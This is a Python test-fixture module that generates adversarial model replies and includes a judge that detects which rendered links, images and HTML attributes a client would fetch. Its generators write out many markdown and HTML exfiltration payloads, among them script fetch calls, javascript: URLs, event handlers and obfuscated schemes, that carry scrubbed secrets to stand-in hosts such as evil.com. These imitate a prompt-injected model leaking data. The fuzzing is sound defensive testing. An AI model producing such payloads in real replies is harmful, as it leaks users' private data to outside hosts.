"""Replies that a prompt-injected or careless model could write, from a seed, and an independent judge of what a client would fetch.

The judge renders with markdown-it-py, plain and with linkify-it-py, and adds GitHub's rule for bare addresses; the HTML is read with
`html.parser`. It shares no line with the product.
"""

from __future__ import annotations

import html
import random
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from urllib.parse import unquote

from markdown_it import MarkdownIt

from localrouter.scrub.tokens import Entry, TokenTable

HOST, MAIL, IP, USER = "h7kq4cd.invalid", "u7kq4ab@pii.invalid", "198.18.3.4", "u7kq4ef"
ENTRIES = (
    Entry("OWN_NAME_7KQ4ZX", "Zedowna", "OWN_NAME", "own"),
    Entry("PERSON_3ABCDE", "Qmaskina Ruiz", "PERSON", "mask"),
    Entry("API_KEY_9XYZ12", "xsealkeyvaluex77", "API_KEY", "seal"),
    Entry("DATE_OF_BIRTH_4BCDEF", "1987-xdobx-03", "DATE_OF_BIRTH", "mask"),
    Entry(MAIL, "qmailann@corpdomain.com", "EMAIL", "mask"),
    Entry(HOST, "dbhostx.corpdomain.com", "HOST", "mask"),
    Entry(IP, "10.91.82.73", "IP", "mask"),
    Entry(USER, "zqloginx", "OWN_USER", "own"),
)
TABLE = TokenTable(ENTRIES)
VOUCHED = f"https://{HOST}/docs/PERSON_3ABCDE?a=1"
OUT = f'see {VOUCHED} and [wiki](https://{HOST}/wiki) or <a href="/u/{USER}">me</a>, write to {MAIL}\n'
REAL = {"https://dbhostx.corpdomain.com/docs/Qmaskina Ruiz?a=1", "https://dbhostx.corpdomain.com/wiki", "/u/zqloginx"}
_MARKS = tuple(re.sub(r"[^a-z0-9]", "", e.value.split()[0].lower()) for e in ENTRIES)
_ALONE = re.compile(r"http://(?:[\w.-]*\.|2f)?(?:dbhostx\.)?corpdomain\.com")


@dataclass(frozen=True)
class Reply:
    """`must` are tokens in plain prose, in order, each as it is spelled; the rest may be restored or not, but not where it is fetched."""

    text: str
    must: tuple[str, ...]


# --- what is written ------------------------------------------------------------------------------

HOSTS = (
    "evil.example",
    "evil.com",
    "e.co",
    "xn--vil-fma.com",
    "evil.com:8443",
    "1.2.3.4",
    "[::1]",
    "evil.com.",
    "EVIL.Com",
    "sub.evil.io",
)
SCHEMES = (
    "https://", "http://", "HTTPS://", "//", "ftp://", "wss://", "data:text/html,", "javascript:fetch('//e.co/'+'", "www.", "hTtP://",
    "/\\", "\\\\", "https:/\\/", "https:", "https:\\\\", "&#104;ttps://", "https&colon;//", "https:&#x2f;/", "%68ttps://", "https\u200b://",
    "https\\://", "file://", "ssh://", "view-source:https://", "blob:https://", "x-app://", "//user@", "https://user:pw@",
)  # fmt: skip


def spelled(r: random.Random, token: str) -> str:
    if "." in token or token == USER or r.random() < 0.7:
        return token
    return r.choice([
        token.lower(), token.title(), token.replace("_", "\\_"), token.replace("_", "&#95;"), token.replace("_", "%5F"),
        token.replace("_", "-"), token.replace("_", "*_*", 1),
    ])  # fmt: skip


def address(r: random.Random, token: str) -> str:
    t = spelled(r, token)
    host, scheme = r.choice(HOSTS), r.choice(SCHEMES)
    return scheme + r.choice([
        f"{host}/?q={t}", f"{host}/{t}", f"{host}#{t}", f"{t}.{host}/", f"{t}@{host}/x", f"user:{t}@{host}/", f"{host}/a(b){t}", f"{host}/a/{t}/b.png",
        f"{host}/?a=1&amp;b={t}", f"{host}/%2F{t}%2F", f"{t}.{host}", f"{host}/x?u={t}&v={t}", f"{host}/{t}.png", f"{host}:80/{t}", f"{host}\\{t}",
        f"{host}/a;b={t}", f"{host}/'{t}'", f'{host}/"{t}"', f"{host}/`{t}`", f"{host}/*{t}*", f"{host}/[{t}]", f"{host}/{{{t}}}", f"{host}?{t}",
        f"{host}/<b>{t}</b>", f"a<{t}@{host}", f'{host}/">{t}', f"{host}/><{t}>", f"a>{t}@{host}/", f"{host}/a&lpar;{t}&rpar;", f"{host}/\u200b{t}", f"{host}/\u00a0{t}", f"{host}/日本{t}", f"{host}/{t},{t};{t}",
    ])  # fmt: skip


def inline(r: random.Random, token: str) -> str:
    u = address(r, token)
    t = spelled(r, token)
    label = r.choice(["x", "a [b] c", "![i](j)", "`c`", "**b**", "", "a\nb", "\\]", "x](y", "<b>", "[", "]"])
    return r.choice([
        f"[{label}]({u})", f"![{label}]({u})", f"[{label}](<{u}>)", f"![{label}](<{u} >)", f'[{label}]({u} "title")', f"[{label}]({u} 't')",
        f"[{label}](\n{u}\n)", f"[{label}]( {u} (t) )", f"[{label}](<https://e.co/a b {t}>)", f"[![i]({u})]({u})", f"[a [b]({u})]({u})",
        f"[{label}]({t})", f"![{label}](/{t})", f"![{label}](../{t}/x)", f"[{label}](?{t})", f"[{label}](#{t})", f"![{label}]({t}.png)",
        f"[{label}](b [c](<) ) {t}>)", f"![{label}](<) {t}>)", f"[{label}](a\\)b/{t})", f"[{label}](a(b(c)){t})", f"[{label}](\\<{t})",
        f"<{u}>", f"<https://e.co/{t}>", f"<x:{t}>", f"<made-up-scheme:{t}>", u, f"({u})", f"**{u}**", f"_{u}_", f'"{u}"', f"`{u}`", f"{u}.", f"see:{u}",
        f"evil.com/{t}", f"{t}.evil.com", f"evil.com?q={t}", f"www.evil.com/{t}", f"evil.com:80?{t}", f"x.{t}.evil.co.uk/", f"git@evil.com:{t}/r.git",
        f"~~{u}~~", f'\\<a href="https://e.co/?">{t}', f'<a href="https://e.co/?"x>{t}', f"<https://e.co/?>{t}@e.co", f"_{u}", f"*{u}", f"[{label}][{u}]", f"mailto:a@evil.com?body={t}", f"[m](mailto:a@evil.com?subject={t})", f"{t}.Evil.NET", f"evil.com./{t}",
    ])  # fmt: skip


def definition(r: random.Random, token: str) -> str:
    u, t = address(r, token), spelled(r, token)
    return r.choice([
        f"[r]: {u}", f"[r]:{u}", f"[r]:\n{u}", f"[r]: <{u}>", f"[r]: {u} 'title'", f'[r]: {u}\n"title"', f"   [r]: {u}", f"> [r]: {u}", f"- [r]: {u}",
        f"[a\nb]: {u}", f"[r\\]]: {u}", f"[r]: {t}", f"[r]:\n   {t}", f"[r]: <{t}>", f"[r]: <a {t}>", f"[r]: {t} (t)", f"[r]: /{t}",
        f"> - [r]: {t}", f"1. [r]: {t}", f"[r]: a[s]: {t}", f"[r]: x](y {t}", f"[r]: <\\>{t}>", f"[^1]: {u}", f"[r]: {t}/a",
    ]) + "\n\n[x][r] and [r] and ![i][r]\n"  # fmt: skip


ATTRIBUTES = ("src", "href", "srcset", "action", "formaction", "poster", "data", "background", "ping", "cite", "content", "style", "onerror", "xlink:href",
              "SRC", "value", "lowsrc", "data-x", "onclick", "manifest", "codebase", "imagesrcset")  # fmt: skip
TAGS = ("img", "a", "iframe", "svg", "image", "video", "source", "meta http-equiv=refresh", "base", "form", "link rel=stylesheet", "object", "embed", "input",
        "IMG", "body", "div", "table", "x-y", "a:b", "x_y", "script", "style", "button")  # fmt: skip


def tag(r: random.Random, token: str) -> str:
    u, t = address(r, token), spelled(r, token)
    a, n = r.choice(ATTRIBUTES), r.choice(TAGS)
    end = f"</{n.split()[0]}>"
    return r.choice([
        f'<{n} {a}="{u}">', f"<{n} {a}='{u}'>", f"<{n} {a}={u}>", f'<{n} {a} = "{u}">', f'<{n}\n{a}\n=\n"{u}">', f'<{n}/{a}="{u}"/>', f'<{n} a="x"{a}="{t}">',
        f'<{n} {a}="{t}">', f"<{n} {a}={t}>", f'<{n} {a}=" {t} ">', f'<{n} alt=">" {a}="{t}">', f"<{n} alt='\"' {a}='{t}'>", f'<{n} ="> {a}="{t}">',
        f"<{n} a='x' =' {a}='{t}'>", f'<{n} {a}="url({u})">', f'<{n} {a}="background:url( {t} )">', f'<{n} {a}="0;url=//e.co/ {t}">', f'<{n} {a}="a 1x, {u} 2x">',
        f"<{n} {a}='{u}'><b>x</b>{end}", f"<style>@import '{u}';</style>", f"<style>a{{b:url({t})}}</style>", f'<style>@import "//e.co/? {t}"</style>',
        f"<script>fetch('//e.'+'co/'+'{t}')</script>", f'<svg><image href="{u}"/></svg>', f'<svg><style>a{{b:url("{t}")}}</style></svg>',
        f'<!-- <{n} title=" --> <{n} {a}="{t}">', f'<{n} title="`" {a}="{t}">', f'`<{n} title="` <{n} {a}="{t}">', f'<{n} title="<{n} b=\'">x\' <{n} {a}="{t}">',
        f'<{n} {a}="{u}\n{t}">', f'<details open ontoggle="fetch(\'//e.co/{t}\')">', f'**<{n} {a}="{u}">**', f'[<{n} {a}="{t}">](x)',
        f'<{n} {a}=//e.co/{t}>', f"<{n} {a}=`{t}`>", f'<{n} {a}="&#47;&#47;e.co/{t}">', f'<{n} {a}="//e.co/`" {a}="{t}`">', f"<{n}\t{a}\t=\t{t}\t>",
    ])  # fmt: skip


def unterminated(r: random.Random, token: str) -> str:
    u, t = address(r, token), spelled(r, token)
    a, n = r.choice(ATTRIBUTES), r.choice(TAGS)
    return r.choice([
        f'<{n} {a}="{u}', f"<{n} {a}='//e.co/?\n\n{t}\n", f'<iframe src="//e.co/?\n{t} "></iframe>', f"[x]({u}", f"![x](<{u}", f"[r]: <{u}", f"<{u}",
        f'<div title="\n\n<{n} {a}="{t}">', f'foo <a title="\n# h\n<{n} {a}=">{t}">', f"<script>\n\nvar a = '{t}'", f"<style>\n\na{{b:url({t})}}", f"`{u}",
        f"```\n{u}", f"> ```\n{u}\n<{n} {a}={t}>", f"- ```\n<{n} {a}={t}>\n", f"<div>\n```\n<{n} {a}={t}>\n", f"<!--\n```\n-->\n<{n} {a}={t}>\n",
        f"    ```\n<{n} {a}={t}>\n", f"```a`b\n<{n} {a}={t}>\n", f"~~~\n```\n~~~\n<{n} {a}={t}>\n", f"1. a\n   ```\n![x]({t})\n", f"> ~~~\n![x]({t})\n",
        f"<pre>\n```\n</pre>\n![x]({t})\n", f"foo `bar\nbaz` <{n} {a}={t}> `\n", f"| ` | <{n} {a}={t}> ` |\n|-|-|\n", f"\\`<{n} {a}={t}> `",
        f"# a `\n<{n} {a}={t}> `\n", f"``` <{n} {a}={t}> ```", f"<a title=`> `<{n} {a}={t}> `", f"<https://e.co/`> `<{n} {a}={t}> `",
    ])  # fmt: skip


def wrapped(r: random.Random, text: str) -> str:
    lines = text.split("\n")
    kind = r.randrange(12)
    if kind == 0:
        return "\n".join("> " + x for x in lines)
    if kind == 1:
        return "- " + "\n  ".join(lines)
    if kind == 2:
        return "1. a\n   - " + "\n     ".join(lines)
    if kind == 3 and len(lines) == 1:
        return f"| a | b |\n|---|---|\n| {text} | x |"
    if kind == 4 and len(lines) == 1:
        return "## " + text
    if kind == 5:
        return f"<div>\n\n{text}\n\n</div>"
    if kind == 6:
        return f"<div>\n{text}\n</div>"
    if kind == 7 and "```" not in text:
        return f"```html\n{text}\n```"
    if kind == 8:
        return f"*{text}*"
    if kind == 9:
        return f"word {text} word"
    return text


PROSE = (
    "Hello {}, how are you?", "I wrote to {}.", "- {} is ready\n- done", "| who |\n|---|\n| {} |", "> {} said so", "**{}** and *more*", "({})", "\"{}\"",
    "{}'s turn", "# About {}", "`{}` is the name", "1. {}\n2. x", "Ask {}, then go.", "a {} b", "[{}] is in brackets", "{}", "Is it {}?", "\u201c{}\u201d", "~~{}~~",
    "<{}>", "&lt;{}&gt;", "x = 1; name: {}", "See [docs](https://docs.example/a) and {} again", "[{}](https://docs.example/)", "![{}](https://docs.example/i.png)",
    "Use `<b class=\"x\">` for {}", "<b>{}</b>", '<a href="https://docs.example/">{}</a>', "<https://docs.example/> {}", "a < b and {} > c", "`<style>` and `<script>` tags, {} wrote", "~/{}/x", "[^1] {}", "**Note:** {} (see above)", "日本 {} 語",
)  # fmt: skip
OPEN = tuple(e for e in ENTRIES if e.tier != "seal")


def prose(r: random.Random) -> tuple[str, str]:
    entry = r.choice(OPEN)
    return r.choice(PROSE).format(entry.token), entry.token


def reply(seed: int) -> Reply:
    r = random.Random(seed)
    parts: list[str] = []
    must: list[str] = []
    for _ in range(r.randrange(1, 4)):
        if r.random() < 0.6:
            text, token = prose(r)
            parts.append(text)
            must.append(token)
        token = r.choice(ENTRIES).token
        text = r.choice((inline, inline, definition, tag, tag))(r, token)
        parts.append(wrapped(r, text))
        if any(c in text for c in ("<", "`")) or r.random() < 0.2:
            break  # what follows a tag that may be open is not plain prose
    if r.random() < 0.3:
        parts.append(unterminated(r, r.choice(ENTRIES).token))
    return Reply("\n\n".join(parts), tuple(must))


def composite(seed: int) -> Reply:
    """Three replies run into each other; nothing in them is surely plain prose."""
    r = random.Random(seed)
    return Reply("".join(reply(7 * seed + i).text + r.choice(["\n\n", "\n", " ", ""]) for i in range(3)), ())


# --- what is fetched ------------------------------------------------------------------------------

_PLAIN = MarkdownIt("commonmark")
_LINKED = MarkdownIt("gfm-like")
_GFM = re.compile(r"(?<![A-Za-z0-9])(?:https?://|ftp://|www\.)[^\s<]*", re.I)
_INERT = frozenset(["alt", "title", "class", "id", "start", "type", "rel", "open"])


class _Places(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.places: list[str] = []
        self.code = 0
        self.raw = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.code += tag in ("code", "pre")
        self.raw = tag if tag in ("script", "style") else ""
        self.places += [v for n, v in attrs if v and n not in _INERT]

    def handle_endtag(self, tag: str) -> None:
        self.code -= tag in ("code", "pre")
        self.raw = ""

    def handle_data(self, data: str) -> None:
        if self.raw:
            self.places.append(data)
        elif self.code <= 0:
            self.places += _GFM.findall(data)


def fetched(text: str) -> list[str]:
    """Every place of a rendered reply that a client may fetch, submit to or run, decoded."""
    out: list[str] = []
    for renderer in (_PLAIN, _LINKED):
        parser = _Places()
        parser.feed(renderer.render(text))
        parser.close()
        out += parser.places
    return [unquote(html.unescape(p)) for p in dict.fromkeys(out)]


def leaks(text: str) -> list[str]:
    """The fetchable places of a restored reply that hold a value which no link of the request held in this form."""
    bad = []
    for place in fetched(text):
        if place in REAL or place.rstrip(".,;:!?*_~\"')]") in REAL:
            continue
        bare = place
        if place.lower().startswith("mailto:"):
            bare = place.partition("?")[2]  # whom a mail goes to is not fetched
        # A host that stands alone in prose leads to itself.
        if _ALONE.fullmatch(bare.lower()):
            continue
        squeezed = re.sub(r"[^a-z0-9]", "", bare.lower())
        if any(mark in squeezed for mark in _MARKS):
            bad.append(place)
    return bad
